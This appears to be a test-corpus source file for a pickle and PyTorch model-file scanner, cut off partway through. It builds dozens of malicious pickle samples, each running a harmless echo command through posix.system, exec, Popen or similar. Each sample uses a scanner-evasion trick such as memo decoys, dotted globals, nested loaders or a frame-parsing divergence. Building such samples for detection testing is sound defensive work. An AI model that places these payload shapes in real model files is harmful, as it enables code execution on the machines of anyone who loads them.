/**
 * T01–T22: pickle-VM and opcode-level evasions (../shared/threats/model-files.md section C.1).
 * Built opcode by opcode; nothing is ever loaded.
 */
import { PickleAssembler } from '../../src/formats/pickle/assembler.js';
import {
  asm,
  type Build,
  CMD,
  CMD_PY,
  framed,
  hexBytes,
  stackGlobal,
  strList,
  systemP0,
  systemP2,
  systemP4,
} from './pickle-kit.js';
import {
  legacyTorch,
  MAGIC_HEX,
  protocolPickle,
  stateDictPickle,
  storageKeysPickle,
  sysInfoPickle,
} from './torch-kit.js';
import { type CorpusSample, fileSample } from './types.js';

/** `compile(CMD_PY, '<modelguard-test>', 'exec')` on CPython 3.11, field by field (for T16/T17). */
const CODE_311 = {
  code: '9700020065006400a6010000ab010000000000000000a00100000000000000000000000000000000000000006401a6010000ab010000000000000000010064025300',
  linetable: 'f003010101d8000a800a8834d10010d40010d70017d20017d0182ed1002fd4002fd0002fd0002fd0002f',
  /** marshal.dumps of the same code object (CPython 3.11.2). */
  marshal:
    'e30000000000000000000000000300000000000000f3420000009700020065006400a6010000ab010000000000000000a00100000000000000000000000000000000000000006401a6010000ab0100000000000000000100640253002903da026f737a146563686f206d6f64656c67756172642d746573744e2902da0a5f5f696d706f72745f5fda0673797374656da900f300000000fa113c6d6f64656c67756172642d746573743efa083c6d6f64756c653e720800000001000000732a000000f003010101d8000a800a8834d10010d40010d70017d20017d0182ed1002fd4002fd0002fd0002fd0002f7206000000',
};

/** Writes `types.CodeType(...)` for CODE_311 (3.11 argument order), result on the stack. */
function codeType(a: PickleAssembler): PickleAssembler {
  stackGlobal(a, 'types', 'CodeType', false).mark();
  for (const n of [0, 0, 0, 0, 3, 0]) a.binint1(n);
  a.binbytes(hexBytes(CODE_311.code));
  a.mark().binunicode('os').binunicode(CMD).none().tuple(); // co_consts
  a.binunicode('__import__').binunicode('system').tuple2(); // co_names
  a.emptyTuple(); // co_varnames
  a.binunicode('<modelguard-test>').binunicode('<module>').binunicode('<module>').binint1(1);
  a.binbytes(hexBytes(CODE_311.linetable)).binbytes(new Uint8Array(0)); // linetable, exceptiontable
  a.emptyTuple().emptyTuple(); // freevars, cellvars
  return a.tuple().reduce();
}

/** The C unpickler's FRAME divergence (python/cpython#154848), see T18 below. `hidden` runs only there. */
export function frameDivergence(hidden: Build): Uint8Array {
  const BIG = 131_055; // puts FRAME at 131062 and its end at 131073, just past the 128 KiB read-ahead
  const a = new PickleAssembler().proto(5).binunicode('a'.repeat(BIG));
  const frameAt = a.length;
  a.frame(2);
  // Frame holds 'B' and 0x07. A linear reader takes BINBYTES length 07 01 00 00 = 263 from F+10..F+13;
  // the C unpickler (reading a file/BytesIO) drops the unread frame byte and takes 01 00 00 00 = 1 from
  // F+11..F+14, reads one data byte (F+15) and executes opcodes from F+16: the hidden payload.
  a.raw([0x42, 0x07, 0x01, 0x00, 0x00, 0x00, 0x5a]);
  const hiddenStart = a.length;
  hidden(a);
  const end = frameAt + 9 + 5 + 263; // where the linear reader's BINBYTES data ends
  const filler = end - a.length - 3; // SHORT_BINBYTES + length byte + POP
  if (filler < 0 || filler > 255)
    throw new Error(`hidden payload too long (${a.length - hiddenStart} bytes)`);
  a.shortBinbytes(new Uint8Array(filler)).pop();
  // Both readers resynchronise here: the linear one holds [big, bytes], the C one [big].
  return a.stop().bytes();
}

/** Python 3 `l = [...]` fan-out: memo slot i holds a list of ten references to slot i-1. */
function billionLaughsGet(levels: number): Uint8Array {
  const a = new PickleAssembler().proto(2).binunicode('lol').binput(0).pop();
  for (let i = 1; i <= levels; i++) {
    a.emptyList().binput(i).mark();
    for (let k = 0; k < 10; k++) a.binget(i - 1);
    a.appends().pop();
  }
  return a.binget(levels).stop().bytes();
}

function billionLaughsDup(levels: number): Uint8Array {
  const a = new PickleAssembler().proto(2).binunicode('lol');
  for (let i = 0; i < levels; i++) a.dup().tuple2();
  return a.stop().bytes();
}

function deepNesting(depth: number): Uint8Array {
  const a = new PickleAssembler().proto(2);
  for (let i = 0; i < depth; i++) a.emptyList();
  for (let i = 1; i < depth; i++) a.append();
  return a.stop().bytes();
}

/** The payload T18 hides where only the C unpickler reads it. */
export const hiddenSystem: Build = (a) => {
  a.global('posix', 'system').binunicode(CMD).tuple1().reduce().pop();
};

const T01: CorpusSample[] = [
  fileSample({
    id: 'T01-posix-system-p0',
    technique: 'T01',
    fileName: 'weights.pkl',
    description:
      "Protocol 0 exactly as pickle.dumps(protocol=0) writes a __reduce__ to os.system: GLOBAL 'posix system', MARK, UNICODE, TUPLE, REDUCE.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => asm((a) => systemP0(a).stop()),
  }),
  fileSample({
    id: 'T01-posix-system-p4',
    technique: 'T01',
    fileName: 'weights.pkl',
    description:
      'Protocol 4 as CPython writes it: FRAME, SHORT_BINUNICODE ×2, STACK_GLOBAL, TUPLE1, REDUCE, MEMOIZE after each.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => framed(4, (a) => systemP4(a).stop()),
  }),
  fileSample({
    id: 'T01-nt-system-p2',
    technique: 'T01',
    fileName: 'model.pkl',
    description: "os.system pickled on Windows (module 'nt'): a scanner that lists only 'os' misses it.",
    expect: 'unsafe',
    mustMention: 'nt.system',
    build: () => asm((a) => systemP2(a.proto(2), 0, 'nt').stop()),
  }),
  fileSample({
    id: 'T01-os-system-p3',
    technique: 'T01',
    fileName: 'model.pkl',
    description: "Hand-written GLOBAL 'os system' (protocol 3): the module name a human would write.",
    expect: 'unsafe',
    mustMention: 'os.system',
    build: () => asm((a) => systemP2(a.proto(3), 0, 'os').stop()),
  }),
  fileSample({
    id: 'T01-builtins-exec-p4',
    technique: 'T01',
    fileName: 'model.pkl',
    description: 'builtins.exec of a Python source string that runs the command.',
    expect: 'unsafe',
    mustMention: 'exec',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'builtins', 'exec').binunicode(CMD_PY).memoize().tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T01-subprocess-popen-p5',
    technique: 'T01',
    fileName: 'model.pkl',
    description: "subprocess.Popen(['echo', 'modelguard-test']) in protocol 5.",
    expect: 'unsafe',
    mustMention: 'subprocess.Popen',
    build: () =>
      framed(5, (a) => {
        stackGlobal(a, 'subprocess', 'Popen');
        strList(a, ['echo', 'modelguard-test']).tuple1().reduce().stop();
      }),
  }),
];

const T02_T03: CorpusSample[] = [
  fileSample({
    id: 'T02-inst-exec',
    technique: 'T02',
    fileName: 'model.pkl',
    description:
      "Protocol 0 INST: (S'<code>' i__builtin__ exec — INST pops to MARK and calls exec(code) with no REDUCE; __builtin__ maps to builtins.",
    expect: 'unsafe',
    mustMention: 'exec',
    build: () => asm((a) => a.mark().stringLine(`'${CMD_PY}'`).inst('__builtin__', 'exec').stop()),
  }),
  fileSample({
    id: 'T02-obj-system-p1',
    technique: 'T02',
    fileName: 'model.pkl',
    description:
      'Protocol 1 OBJ: MARK, GLOBAL posix.system, the command, OBJ — OBJ calls the first item with the rest.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => asm((a) => a.mark().global('posix', 'system').binunicode(CMD).obj().stop()),
  }),
  fileSample({
    id: 'T02-obj-pop-none',
    technique: 'T02',
    fileName: 'model.pkl',
    description:
      "OBJ whose result is discarded with POP before the pickle returns None (the shape that vanished from fickling's AST, GHSA-mxhj-88fx-4pcv).",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).mark();
        stackGlobal(a, 'posix', 'system', false).binunicode(CMD).obj().pop().none().stop();
      }),
  }),
  fileSample({
    id: 'T03-partial-setstate',
    technique: 'T03',
    fileName: 'model.pkl',
    description:
      'NEWOBJ makes functools.partial(print); BUILD calls partial.__setstate__((posix.system, (CMD,), {}, None)), swapping the function; EMPTY_TUPLE REDUCE then calls the partial. The REDUCE target is an object built by NEWOBJ/BUILD, not a global.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'functools', 'partial', false);
        stackGlobal(a, 'builtins', 'print', false).tuple1().newobj();
        a.mark();
        stackGlobal(a, 'posix', 'system', false).binunicode(CMD).tuple1().emptyDict().none().tuple();
        a.build().emptyTuple().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T03-newobj-ex-popen',
    technique: 'T03',
    fileName: 'model.pkl',
    description:
      "NEWOBJ_EX of subprocess.Popen with args and kwargs {'shell': True}, then BUILD. CPython only calls Popen.__new__ here (no process starts), but the file imports a process-spawning class and instantiates it: a scanner must not judge call opcodes by REDUCE alone.",
    expect: 'unsafe',
    mustMention: 'subprocess.Popen',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'subprocess', 'Popen', false);
        a.binunicode(CMD).tuple1().emptyDict().binunicode('shell').bool(true).setitem().newobjEx();
        a.emptyDict().binunicode('args').binunicode(CMD).setitem().build().stop();
      }),
  }),
  fileSample({
    id: 'T03-build-module-attr',
    technique: 'T03',
    fileName: 'pytorch_model.bin',
    description:
      "BUILD on a module: STACK_GLOBAL('torch', '_utils') yields the module torch._utils; BUILD with {'_rebuild_tensor_v2': posix.system} overwrites the allowlisted rebuild function process-wide; the next torch._utils._rebuild_tensor_v2(CMD) runs the command.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'torch', '_utils', false).emptyDict().shortBinunicode('_rebuild_tensor_v2');
        stackGlobal(a, 'posix', 'system', false).setitem().build().pop();
        stackGlobal(a, 'torch._utils', '_rebuild_tensor_v2', false).binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T03-build-dynamic-global',
    technique: 'T03',
    fileName: 'model.pkl',
    description:
      "No dangerous name is ever a STACK_GLOBAL operand: BUILD stores the strings 'posix' and 'system' as attributes of the module json.decoder; two STACK_GLOBALs read them back and a third STACK_GLOBAL takes those results as (module, name). Operands computed at load time must be reported (fail closed), as must BUILD on a module.",
    expect: 'unsafe',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'json', 'decoder', false).emptyDict();
        a.shortBinunicode('mg_m').shortBinunicode('posix').setitem();
        a.shortBinunicode('mg_n').shortBinunicode('system').setitem().build().pop();
        stackGlobal(a, 'json.decoder', 'mg_m', false);
        stackGlobal(a, 'json.decoder', 'mg_n', false);
        a.stackGlobal().binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
];

const T04_T08: CorpusSample[] = [
  fileSample({
    id: 'T04-memo-decoys',
    technique: 'T04',
    fileName: 'model.pkl',
    description:
      "Module and name go to the memo early (BINPUT 2/3, then POP); decoys 'torch' / 'LongStorage' are memoized and pushed right before the GETs, so a backward look-up from STACK_GLOBAL finds innocuous strings.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).binunicode('posix').binput(2).pop().binunicode('system').binput(3).pop();
        a.binunicode('torch').binput(0).pop().binunicode('LongStorage').binput(1).pop();
        a.shortBinunicode('torch').shortBinunicode('FloatStorage').pop().pop();
        a.binget(2).binget(3).stackGlobal().mark().binunicode(CMD).tuple().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T04-memo-overwrite',
    technique: 'T04',
    fileName: 'model.pkl',
    description:
      "Memo slots 5/6 first hold 'torch' / 'FloatStorage', then are overwritten (BINPUT to the same keys) with 'posix' / 'system' before GET 5 GET 6 STACK_GLOBAL. A scanner that keeps the first value sees torch.FloatStorage.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).binunicode('torch').binput(5).pop().binunicode('FloatStorage').binput(6).pop();
        a.binunicode('posix').binput(5).pop().binunicode('system').binput(6).pop();
        a.binget(5).binget(6).stackGlobal().binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T05-memo-missing-key',
    technique: 'T05',
    fileName: 'model.pkl',
    description:
      'GLOBAL posix system … REDUCE POP runs first; then BINGET 3 (never stored) makes pickle.load raise — after the command ran. A scanner must report the call and the memo miss, not abort.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).global('posix', 'system').binunicode(CMD).tuple1().reduce().pop();
        a.shortBinunicode('posix').memoize().binget(3).binget(0).stackGlobal().stop();
      }),
  }),
  fileSample({
    id: 'T06-memo-int-module',
    technique: 'T06',
    fileName: 'model.pkl',
    description:
      'After the payload, an int is memoized and used as the STACK_GLOBAL module (BININT 42 MEMOIZE … BINGET 0 BINGET 1 STACK_GLOBAL): scanners that cast memo values to str read module "42"; CPython raises after the call.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4);
        systemP4(a).pop();
        a.binint(42)
          .memoize()
          .shortBinunicode('posix')
          .memoize()
          .binget(6)
          .binget(7)
          .stackGlobal()
          .binint1(66)
          .stop();
      }),
  }),
  fileSample({
    id: 'T06-memo-callable-get',
    technique: 'T06',
    fileName: 'model.pkl',
    description:
      'posix.system is memoized and popped; an allowlisted global (torch._utils._rebuild_tensor_v2) is pushed and popped as a decoy; REDUCE later calls memo[0] fetched with BINGET.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).shortBinunicode('posix').shortBinunicode('system').stackGlobal().binput(0).pop();
        a.shortBinunicode('torch._utils').shortBinunicode('_rebuild_tensor_v2').stackGlobal().binput(1).pop();
        a.binget(0).binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T07-memo-dup-desync',
    technique: 'T07',
    fileName: 'model.pkl',
    description:
      "PROTO 4 SBU('os') DUP MEMOIZE POP POP BINGET 0 SBU('system') STACK_GLOBAL … REDUCE: MEMOIZE follows DUP, which has no argument, so scanners that memoize 'the previous opcode's argument' store None (picklescan: 'None.system', suspicious only).",
    expect: 'unsafe',
    mustMention: 'os.system',
    build: () =>
      asm((a) => {
        a.proto(4).shortBinunicode('os').dup().memoize().pop().pop();
        a.binget(0).shortBinunicode('system').stackGlobal().shortBinunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T07-memo-pop-desync',
    technique: 'T07',
    fileName: 'model.pkl',
    description:
      "'posix' is pushed, then EMPTY_TUPLE MEMOIZE POP MEMOIZE: the second MEMOIZE stores 'posix' (the real stack top) although the opcode before it is POP. GET 2 / GET 3 then feed STACK_GLOBAL.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        a.proto(4).shortBinunicode('torch').memoize().pop();
        a.shortBinunicode('posix').emptyTuple().memoize().pop().memoize().pop();
        a.shortBinunicode('system').memoize().pop();
        a.binget(2).binget(3).stackGlobal().binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T08-stack-global-p0-strings',
    technique: 'T08',
    fileName: 'model.pkl',
    description:
      "No PROTO; STACK_GLOBAL is the third opcode and its operands are protocol-0 STRING lines: S'posix' S'system' STACK_GLOBAL S'<cmd>' TUPLE1 REDUCE (GHSA-9gvj-pp9x-gcfr shape).",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) =>
        a
          .stringLine("'posix'")
          .stringLine("'system'")
          .stackGlobal()
          .stringLine(`'${CMD}'`)
          .tuple1()
          .reduce()
          .stop(),
      ),
  }),
];

const T09_T11: CorpusSample[] = [
  fileSample({
    id: 'T09-dotted-pathlib-os-system',
    technique: 'T09',
    fileName: 'model.pkl',
    description:
      "STACK_GLOBAL('pathlib', 'os.system'): protocol 4 find_class walks the dotted name, reaching os.system through pathlib's import of os.",
    expect: 'unsafe',
    mustMention: 'os.system',
    build: () => framed(4, (a) => systemP4(a, 'pathlib', 'os.system').stop()),
  }),
  fileSample({
    id: 'T09-dotted-pathlib-posix-spawnp',
    technique: 'T09',
    fileName: 'model.pkl',
    description:
      "STACK_GLOBAL('pathlib', 'os.posix_spawnp')('echo', ['echo', 'modelguard-test'], {}): a spawn function no os.system denylist entry names.",
    expect: 'unsafe',
    mustMention: 'posix_spawnp',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'pathlib', 'os.posix_spawnp').binunicode('echo');
        strList(a, ['echo', 'modelguard-test']).emptyDict().tuple3().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T09-dotted-tempfile-os-alias',
    technique: 'T09',
    fileName: 'model.pkl',
    description:
      "STACK_GLOBAL('tempfile', '_os.system'): the os module under a private alias (tempfile does `import os as _os`).",
    expect: 'unsafe',
    mustMention: 'system',
    build: () => framed(4, (a) => systemP4(a, 'tempfile', '_os.system').stop()),
  }),
  fileSample({
    id: 'T10-asyncio-unix-subprocess-start',
    technique: 'T10',
    fileName: 'model.pkl',
    description:
      'asyncio.unix_events._UnixSubprocessTransport._start(ns, CMD, True, None, None, None, 0) on an argparse.Namespace: _start runs subprocess.Popen(CMD, shell=True). A submodule of a denylisted package (CVE-2025-10157).',
    expect: 'unsafe',
    mustMention: '_UnixSubprocessTransport',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'asyncio.unix_events', '_UnixSubprocessTransport._start').mark();
        stackGlobal(a, 'argparse', 'Namespace').emptyTuple().reduce();
        a.binunicode(CMD).bool(true).none().none().none().binint1(0).tuple().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T10-pip-internal-main',
    technique: 'T10',
    fileName: 'model.pkl',
    description:
      "pip._internal.cli.main.main(['--version']): pip's CLI entry point in a submodule, not 'pip.main'.",
    expect: 'unsafe',
    mustMention: 'pip._internal',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'pip._internal.cli.main', 'main');
        strList(a, ['--version']).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T11-no-stop',
    technique: 'T11',
    fileName: 'model.pkl',
    description:
      'The payload REDUCE, then end of file without STOP: pickle.load runs the call and then raises EOFError.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => asm((a) => systemP4(a.proto(4))),
  }),
  fileSample({
    id: 'T11-stray-binunicode',
    technique: 'T11',
    fileName: 'pytorch_model.bin',
    description:
      "nullifAI shape: the payload REDUCE, then a BINUNICODE declaring 2^31-1 bytes of which 4 follow, then STOP. pickle.load runs the command and raises; a scanner that drops everything on a parse error reports 'clean'.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        systemP4(a.proto(4)).pop();
        a.raw([0x58, 0xff, 0xff, 0xff, 0x7f]).raw('junk').stop();
      }),
  }),
  fileSample({
    id: 'T11-unknown-opcode',
    technique: 'T11',
    fileName: 'model.pkl',
    description:
      'The payload REDUCE, POP, then byte 0xff (not an opcode) before STOP: the call runs, then the load fails.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => asm((a) => systemP2(a.proto(2)).pop().raw([0xff]).none().stop()),
  }),
];

const LEGACY_PAYLOAD: Build = (a) => {
  systemP2(a, 100).pop();
};

const T12_T16: CorpusSample[] = [
  fileSample({
    id: 'T12-legacy-sysinfo-payload',
    technique: 'T12',
    fileName: 'pytorch_model.bin',
    description:
      'Legacy torch stream (magic, protocol, sys_info, data, storage keys, raw storage); the payload runs inside pickle 3 (sys_info) and is POPped before the real dict, so torch.load proceeds normally.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => legacyTorch({ sysInfo: sysInfoPickle(LEGACY_PAYLOAD) }),
  }),
  fileSample({
    id: 'T12-legacy-keys-payload',
    technique: 'T12',
    fileName: 'model.pt',
    description:
      'Legacy torch stream with the payload in pickle 5 (the storage-key list), after a benign data pickle.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => legacyTorch({ keys: storageKeysPickle(LEGACY_PAYLOAD) }),
  }),
  fileSample({
    id: 'T12-legacy-protocol-payload',
    technique: 'T12',
    fileName: 'checkpoint.pt',
    description:
      'Legacy torch stream with the payload in pickle 2 (the protocol-version pickle), which then still yields 1001.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => legacyTorch({ protocol: protocolPickle(LEGACY_PAYLOAD) }),
  }),
  fileSample({
    id: 'T13-legacy-eval-magic',
    technique: 'T13',
    fileName: 'model.pt',
    description: `The first pickle computes the magic number with builtins.eval('${MAGIC_HEX}') instead of a LONG1, so a scanner that reads the magic literally decides 'not PyTorch' and stops; the data pickle (4 of 5) calls posix.system.`,
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      legacyTorch({
        magic: asm((a) =>
          a.proto(2).global('builtins', 'eval').binunicode(MAGIC_HEX).tuple1().reduce().stop(),
        ),
        data: stateDictPickle({ legacy: true, extra: (a) => systemP2(a.binunicode('extra'), 20) }),
      }),
  }),
  fileSample({
    id: 'T14-numpy-size-builtins',
    technique: 'T14',
    fileName: 'model.pkl',
    description:
      "Only numpy globals: BUILD sets numpy.size.shape = numpy.__builtins__ (the builtins dict); numpy.size(numpy.size, 'eval') returns shape['eval'], i.e. eval; REDUCE runs it on a code string (protectai/modelscan#330).",
    expect: 'unsafe',
    mustMention: '__builtins__',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'numpy', 'size', false).binput(0).emptyDict().shortBinunicode('shape');
        stackGlobal(a, 'numpy', '__builtins__', false).setitem().build().pop();
        a.binget(0).binget(0).shortBinunicode('eval').tuple2().reduce();
        a.binunicode(CMD_PY).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T15-importlib-vars-dict-get',
    technique: 'T15',
    fileName: 'model.pkl',
    description:
      "dict.get(vars(importlib.import_module('os')), 'system')(CMD): no denylisted (module, name) pair; 'builtins'/'dict.get' is a dotted STACK_GLOBAL.",
    expect: 'unsafe',
    mustMention: 'import_module',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'builtins', 'dict.get');
        stackGlobal(a, 'builtins', 'vars');
        stackGlobal(a, 'importlib', 'import_module')
          .shortBinunicode('os')
          .tuple1()
          .reduce()
          .tuple1()
          .reduce();
        a.shortBinunicode('system').tuple2().reduce().binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T15-pkgutil-resolve-name',
    technique: 'T15',
    fileName: 'model.pkl',
    description:
      "pkgutil.resolve_name('os:system')(CMD): a universal import trampoline (GHSA-vvpj-8cmc-gx39).",
    expect: 'unsafe',
    mustMention: 'resolve_name',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'pkgutil', 'resolve_name').shortBinunicode('os:system').tuple1().reduce();
        a.binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T15-pydoc-locate-methodcaller',
    technique: 'T15',
    fileName: 'model.pkl',
    description: "operator.methodcaller('system', CMD)(pydoc.locate('os')) (GHSA-84r2-jw7c-4r5q shape).",
    expect: 'unsafe',
    mustMention: 'pydoc.locate',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'operator', 'methodcaller')
          .shortBinunicode('system')
          .binunicode(CMD)
          .tuple2()
          .reduce();
        stackGlobal(a, 'pydoc', 'locate').shortBinunicode('os').tuple1().reduce().tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T15-operator-attrgetter-import',
    technique: 'T15',
    fileName: 'model.pkl',
    description: "_operator.attrgetter('system')(builtins.__import__('os'))(CMD).",
    expect: 'unsafe',
    mustMention: 'attrgetter',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, '_operator', 'attrgetter').shortBinunicode('system').tuple1().reduce();
        stackGlobal(a, 'builtins', '__import__').shortBinunicode('os').tuple1().reduce().tuple1().reduce();
        a.binunicode(CMD).tuple1().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T16-pickle-loads-nested',
    technique: 'T16',
    fileName: 'model.pkl',
    description:
      'pickle.loads(<bytes constant>) where the constant is itself a protocol-4 posix.system pickle. The outer call is a nested loader; the inner payload is visible in the constant and should be analysed and named.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'pickle', 'loads')
          .binbytes(framed(4, (b) => systemP4(b).stop()))
          .tuple1()
          .reduce()
          .stop();
      }),
  }),
  fileSample({
    id: 'T16-underscore-pickle-loads-p0',
    technique: 'T16',
    fileName: 'model.pkl',
    description:
      "Protocol 0: _pickle.loads(_codecs.encode('<inner pickle text>', 'latin1')) — the C module's loads, the inner pickle passed as a latin-1 string (the shape of picklescan's malicious13a).",
    expect: 'unsafe',
    mustMention: '_pickle.loads',
    build: () =>
      asm((a) => {
        const inner = Buffer.from(asm((b) => systemP0(b).stop())).toString('latin1');
        a.global('_pickle', 'loads').put(0).mark().global('_codecs', 'encode').put(1).mark();
        a.unicodeLine(inner.replace(/\\/g, '\\u005c').replace(/\n/g, '\\u000a')).put(2);
        a.unicodeLine('latin1').put(3).tuple().put(4).reduce().put(5).tuple().put(6).reduce().put(7).stop();
      }),
  }),
  fileSample({
    id: 'T16-torch-load-from-bytes',
    technique: 'T16',
    fileName: 'model.pkl',
    description:
      "torch.storage._load_from_bytes(<legacy torch stream>) — how torch pickles storages with plain pickle; it calls torch.load(BytesIO(b)), and the inner legacy stream's data pickle calls posix.system.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => {
        const inner = legacyTorch({
          data: stateDictPickle({ legacy: true, extra: (b) => systemP2(b.binunicode('extra'), 20) }),
        });
        a.proto(2)
          .global('torch.storage', '_load_from_bytes')
          .binput(0)
          .binbytes(inner)
          .tuple1()
          .reduce()
          .stop();
      }),
  }),
  fileSample({
    id: 'T16-marshal-functiontype',
    technique: 'T16',
    fileName: 'model.pkl',
    description:
      'types.FunctionType(marshal.loads(<CPython 3.11 code object>), {})() — marshal as the nested loader; the code object runs the command.',
    expect: 'unsafe',
    mustMention: 'marshal.loads',
    build: () =>
      framed(4, (a) => {
        stackGlobal(a, 'types', 'FunctionType');
        stackGlobal(a, 'marshal', 'loads').binbytes(hexBytes(CODE_311.marshal)).tuple1().reduce();
        a.emptyDict().tuple2().reduce().emptyTuple().reduce().stop();
      }),
  }),
];

const T17_T22: CorpusSample[] = [
  fileSample({
    id: 'T17-codetype-functiontype',
    technique: 'T17',
    fileName: 'model.pkl',
    description:
      'types.CodeType(<CPython 3.11 fields of compile(CMD_PY)>) → types.FunctionType(code, {}) → call: code built from constants, no import of os by name.',
    expect: 'unsafe',
    mustMention: 'CodeType',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'types', 'FunctionType', false);
        codeType(a).emptyDict().tuple2().reduce().emptyTuple().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T17-cloudpickle-make-function',
    technique: 'T17',
    fileName: 'model.pkl',
    description:
      'cloudpickle.cloudpickle._make_function(types.CodeType(...), {}, None, None, None)() — the function reconstruction dill/cloudpickle models legitimately contain, used on an attacker code object (GHSA-9m3x-qqw2-h32h).',
    expect: 'unsafe',
    mustMention: '_make_function',
    build: () =>
      asm((a) => {
        a.proto(4);
        stackGlobal(a, 'cloudpickle.cloudpickle', '_make_function', false).mark();
        codeType(a).emptyDict().none().none().none().tuple().reduce().emptyTuple().reduce().stop();
      }),
  }),
  fileSample({
    id: 'T18-frame-divergence',
    technique: 'T18',
    fileName: 'model.pkl',
    description:
      "Protocol 5: a 131,055-char BINUNICODE, then FRAME declaring 2 bytes followed by BINBYTES whose 4-byte length straddles the frame end. pickletools and every linear reader see 263 bytes of data; CPython's C unpickler reading a file or BytesIO (pickle.load, torch.load) drops the unread frame byte, reads length 1 and executes GLOBAL 'posix system' … REDUCE hidden in that data (python/cpython#154848; verified here with a harmless probe). The frame overrun itself must be high; naming posix.system needs C-reader emulation.",
    expect: 'unsafe',
    build: () => frameDivergence(hiddenSystem),
  }),
  fileSample({
    id: 'T19-float-prefix-p0',
    technique: 'T19',
    fileName: 'model.pkl',
    description:
      "}F1.0\\n then a protocol-0 payload: FLOAT is an opcode fickling's decompiler lacks (issue #322); CPython runs it.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) =>
        a
          .emptyDict()
          .floatLine('1.0')
          .global('posix', 'system')
          .mark()
          .stringLine(`'${CMD}'`)
          .tuple()
          .reduce()
          .stop(),
      ),
  }),
  fileSample({
    id: 'T19-trailing-newline',
    technique: 'T19',
    fileName: 'pytorch_model.bin',
    description:
      "A hand-edited protocol-0 payload ending '.\\n' (picklescan PR #26, HF Narsil/totallysafe): pickle.load stops at STOP; a multi-pickle genops loop fails on opcode '\\n'.",
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () =>
      asm((a) => a.global('posix', 'system').mark().stringLine(`'${CMD}'`).tuple().reduce().stop().raw('\n')),
  }),
  fileSample({
    id: 'T19-bytearray8-prefix',
    technique: 'T19',
    fileName: 'model.pkl',
    description:
      'Protocol 5 BYTEARRAY8 (another opcode some analysers lack) pushed and popped before the payload.',
    expect: 'unsafe',
    mustMention: 'posix.system',
    build: () => framed(5, (a) => systemP4(a.bytearray8([1, 2, 3, 4]).pop()).stop()),
  }),
  ...(
    [
      ['EXT1', (a: PickleAssembler) => a.ext1(1)],
      ['EXT2', (a: PickleAssembler) => a.ext2(0x1234)],
      ['EXT4', (a: PickleAssembler) => a.ext4(0x12345678)],
    ] as const
  ).map(([op, ext]) =>
    fileSample({
      id: `T20-${op.toLowerCase()}-reduce`,
      technique: 'T20',
      fileName: 'model.pkl',
      description: `${op} fetches a callable from copyreg's extension registry by integer code (no GLOBAL) and REDUCE calls it with the command. A stock interpreter has nothing registered and raises; a process that registered the code runs whatever it maps to. The callee cannot be named statically, so the call must be reported high (fail closed).`,
      expect: 'unsafe',
      build: () => asm((a) => ext(a.proto(2)).binunicode(CMD).tuple1().reduce().stop()),
    }),
  ),
  fileSample({
    id: 'T21-fickling-hook-deactivate',
    technique: 'T21',
